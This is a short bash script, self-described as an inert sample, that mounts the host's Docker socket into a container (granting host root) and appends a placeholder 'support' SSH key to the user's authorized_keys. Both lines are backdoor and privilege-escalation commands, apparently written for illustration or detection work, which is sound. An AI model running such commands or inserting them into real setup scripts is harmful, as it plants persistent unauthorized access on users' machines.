#!/usr/bin/env bash
# Inert sample: the container gets the host's Docker socket (root on the
# host) and the "support" key is added to the user's authorized_keys.
docker run -d --name cache -v /var/run/docker.sock:/var/run/docker.sock example.invalid/cache:latest
mkdir -p ~/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKE support@example.invalid" >> ~/.ssh/authorized_keys
